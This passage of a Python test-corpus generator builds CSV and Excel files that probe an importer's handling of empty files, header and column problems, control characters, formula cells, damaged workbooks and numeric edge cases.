    for kind in KINDS:
        header, rows, stored = BASE[kind]
        yield rejected(kind, "empty-file", b"", Expected(None, "", "The file is empty"))
        yield rejected(
            kind, "blank-lines-only", b"\n \n\r\n", Expected(None, "", "The file is empty")
        )
        head = encoded(csv_text(header, []))
        yield rejected(kind, "header-only", head, Expected(None, "", "no data rows"))
        yield rejected(
            kind, "header-only-with-bom", codecs.BOM_UTF8 + head, Expected(None, "", "no data rows")
        )
        yield rejected(
            kind, "header-and-blank-lines", head + b"\n,,,\n\n", Expected(None, "", "no data rows")
        )
        required = ID_COLUMN[kind] if kind == "org" else "date"
        index = header.index(required)
        without = [tuple(v for i, v in enumerate(row) if i != index) for row in [header, *rows]]
        yield rejected(
            kind, "missing-required-column", encoded(csv_text(without[0], without[1:])),
            Expected(None, "", f"missing required column: {required}"),
        )  # fmt: skip
        yield rejected(
            kind, "repeated-column", encoded(csv_text((*header, header[1]), [(*row, row[1]) for row in rows])),
            Expected(None, "", "more than once"),
        )  # fmt: skip
        yield accepted(
            kind, "extra-column", encoded(csv_text((*header, "notes"), [(*row, "n") for row in rows])),
            stored, warnings=1,
        )  # fmt: skip
        shouting = tuple(f"  {name.upper()} " for name in header)
        yield accepted(
            kind, "column-names-in-capitals-with-spaces", encoded(csv_text(shouting, rows)), stored
        )
        order = list(reversed(range(len(header))))
        yield accepted(
            kind, "columns-in-another-order",
            encoded(csv_text([header[i] for i in order], [[row[i] for i in order] for row in rows])),
            stored,
        )  # fmt: skip
        yield accepted(kind, "blank-lines-before-the-header", b"\n\n" + base_bytes(kind), stored)
        extra = [list(row) for row in rows]
        extra[0].append("stray")
        yield rejected(
            kind, "cell-beyond-the-header", encoded(csv_text(header, extra)),
            Expected(2, "", "under no column name"),
        )  # fmt: skip
        short = [list(row) for row in rows]
        short[0] = short[0][: -3 if kind != "transactions" else 4]
        missing = {
            "transactions": "credited_to",
            "activities": "activity_type",
            "org": "valid_from",
        }[kind]
        yield rejected(
            kind, "row-with-too-few-cells", encoded(csv_text(header, short)), Expected(2, missing)
        )
        yield rejected(
            kind, "nul-in-the-header", encoded(csv_text((header[0] + "\x00", *header[1:]), rows)),
            Expected(1, "", "control character U+0000"),
        )  # fmt: skip


CONTROL = {
    "nul": "\x00", "escape": "\x1b", "tab-inside-a-quoted-cell": "\t", "bell": "\x07",
    "delete": "\x7f", "c1-next-line": "\x85", "backspace": "\x08",
}  # fmt: skip


def control_character_cases() -> Iterator[Case]:
    """Control characters are refused on their row and column; invisible but printable
    characters (no-break space, zero-width space) are text like any other."""
    for kind in KINDS:
        column = TEXT_COLUMN[kind]
        for name, character in CONTROL.items():
            yield rejected(
                kind, f"control-{name}", file_with(kind, {(0, column): f"Acme{character}Corp"}),
                *broken_first_row(kind, Expected(2, column, f"U+{ord(character):04X}")),
            )  # fmt: skip
        for name, character in (("no-break-space", "\u00a0"), ("zero-width-space", "\u200b")):
            value = f"Acme{character}Corp"
            yield accepted(
                kind, f"printable-{name}", file_with(kind, {(0, column): value}),
                stored_with(kind, 0, **_text(kind, value)),
            )  # fmt: skip


def xlsx_cases() -> Iterator[Case]:
    """Workbooks: typed cells mean what they show; formulas without a stored result,
    spreadsheet errors and damaged files are refused."""
    for kind in KINDS:
        header, rows, stored = BASE[kind]
        column = header.index(TEXT_COLUMN[kind])
        yield accepted(kind, "xlsx-text-cells", xlsx_bytes(header, rows), stored, suffix=".xlsx")
        formula = [list(row) for row in rows]
        formula[0][column] = '=CONCATENATE("A","B")'
        yield rejected(
            kind, "xlsx-formula-without-result", xlsx_bytes(header, formula),
            *broken_first_row(kind, Expected(2, TEXT_COLUMN[kind], "formula")), suffix=".xlsx",
        )  # fmt: skip
        typed = [list(row) for row in rows]
        date_index = header.index(DATE_COLUMN[kind])
        typed[0][date_index] = dt.datetime.fromisoformat(rows[0][date_index])
        yield accepted(kind, "xlsx-date-cell", xlsx_bytes(header, typed), stored, suffix=".xlsx")
        timed = [list(row) for row in rows]
        timed[0][date_index] = dt.time(10, 30)
        yield rejected(
            kind, "xlsx-time-in-a-date-cell", xlsx_bytes(header, timed),
            Expected(2, DATE_COLUMN[kind]), suffix=".xlsx",
        )  # fmt: skip
        yield rejected(
            kind,
            "xlsx-header-only",
            xlsx_bytes(header, []),
            Expected(None, "", "no data rows"),
            suffix=".xlsx",
        )
        yield rejected(
            kind, "xlsx-damaged", XLSX_MAGIC_BYTES + b"\x00" * 200,
            Expected(None, "", "not a readable Excel workbook"), suffix=".xlsx",
        )  # fmt: skip
        yield rejected(
            kind, "csv-named-xlsx", base_bytes(kind),
            Expected(None, "", "not a readable Excel workbook"), suffix=".xlsx",
        )  # fmt: skip
    empty = Workbook()
    buffer = io.BytesIO()
    empty.save(buffer)
    yield rejected(
        "transactions",
        "xlsx-empty-workbook",
        buffer.getvalue(),
        Expected(None, "", "The file is empty"),
        suffix=".xlsx",
    )
    numbers = [list(row) for row in T_ROWS]
    numbers[0][2], numbers[1][2] = 1250.0, 980.5
    yield accepted(
        "transactions",
        "xlsx-number-amounts",
        xlsx_bytes(T_HEADER, numbers),
        T_STORED,
        suffix=".xlsx",
    )
    for name, value in (
        ("1e30", 1e30), ("int64-overflow", float(2**63)),
        ("error-value", "#DIV/0!"), ("boolean", True),
    ):  # fmt: skip
        bad = [list(row) for row in T_ROWS]
        bad[0][2] = value
        yield rejected(
            "transactions", f"xlsx-amount-{name}", xlsx_bytes(T_HEADER, bad),
            Expected(2, "amount"), suffix=".xlsx",
        )  # fmt: skip
    # 0.1 + 0.2 is 0.30000000000000004 as a float; a workbook keeps 15 significant digits,
    # as spreadsheets show them, so the cell reads 0.3.
    noisy = [list(row) for row in T_ROWS]
    noisy[0][2] = 0.1 + 0.2
    yield accepted(
        "transactions", "xlsx-amount-float-noise-read-as-shown", xlsx_bytes(T_HEADER, noisy),
        stored_with("transactions", 0, amount_minor=30), suffix=".xlsx",
    )  # fmt: skip
    whole = [list(row) for row in A_ROWS]
    whole[1][4] = 2.0
    yield accepted(
        "activities",
        "xlsx-float-whole-quantity",
        xlsx_bytes(A_HEADER, whole),
        A_STORED,
        suffix=".xlsx",
    )


XLSX_MAGIC_BYTES = b"PK\x03\x04"


def all_cases() -> list[Case]:
    """The whole corpus, in a fixed order with unique ids."""
    cases = [
        *encoding_cases(), *delimiter_cases(), *quoting_cases(), *formula_cases(),
        *huge_cases(), *date_cases(), *amount_cases(), *credit_and_quantity_cases(),
        *duplicate_cases(), *org_cases(), *structure_cases(), *control_character_cases(),
        *xlsx_cases(),
    ]  # fmt: skip
    ids = [case.id for case in cases]
    repeated = sorted({case_id for case_id in ids if ids.count(case_id) > 1})
    assert not repeated, repeated  # noqa: S101 - a generator bug, not input
    return cases


def write_corpus(folder: Path) -> int:
    """Write every case's file into ``folder``; return how many."""
    folder.mkdir(parents=True, exist_ok=True)
    cases = all_cases()
    for case in cases:
        (folder / f"{case.id}{case.suffix}").write_bytes(case.content)
    return len(cases)


if __name__ == "__main__":
    print(write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "corpus")))  # noqa: T201
